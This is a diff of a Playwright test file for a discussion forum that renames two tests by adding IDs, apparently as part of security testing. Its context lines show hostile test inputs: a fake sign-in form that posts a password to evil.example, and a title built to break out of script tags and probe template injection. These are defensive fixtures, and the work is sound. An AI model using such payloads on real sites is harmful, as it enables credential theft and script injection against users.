@@ -25,7 +25,7 @@ const hostile: Readonly<Record<string, string>> = {
   "a form": `Words <form action="https://evil.example"><input name="password"><button>Sign in</button></form>`,
 };
 
-test("Whatever is posted, the page stays calm", async ({ page, site }) => {
+test("A20: Whatever is posted, the page stays calm", async ({ page, site }) => {
   test.setTimeout(120_000);
   const { discussionID, url } = await makeDiscussion(site, `Hostile ${"x".repeat(60)}`, []);
   const newTagNames = ["T".repeat(60), "\u0645\u0631\u062d\u0628\u0627"];
@@ -48,7 +48,7 @@ test("Whatever is posted, the page stays calm", async ({ page, site }) => {
   await expectAccessible(page);
 });
 
-test("A title that would break out of scripts is only text", async ({ page, site }) => {
+test("A12: A title that would break out of scripts is only text", async ({ page, site }) => {
   const title = "</script><script>window.__hit=1</script><!-- {{7*7}} ]]>";
   const { categoryID } = await makeDiscussion(site, "Break out", []);
   const post = { name: title, body: "x", format: "markdown", categoryID };
